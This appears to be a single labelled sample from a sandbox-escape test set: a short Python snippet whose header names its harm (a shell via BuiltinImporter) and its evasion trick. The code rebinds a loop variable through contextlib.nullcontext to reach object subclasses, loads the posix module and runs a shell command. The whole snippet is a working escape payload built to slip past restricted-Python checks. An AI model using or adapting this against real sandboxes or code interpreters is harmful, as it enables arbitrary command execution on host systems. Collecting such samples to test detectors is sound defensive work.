# HARM: shell via BuiltinImporter | TRICK: loop variable rebound by 'with ... as sub' using contextlib.nullcontext(object)
import contextlib
class Base: pass
class A(Base): pass
for sub in Base.__subclasses__():
    with contextlib.nullcontext(object) as sub:
        for k in sub.__subclasses__():
            if k.__name__ == "BuiltinImporter":
                k.load_module("posix").system("id")
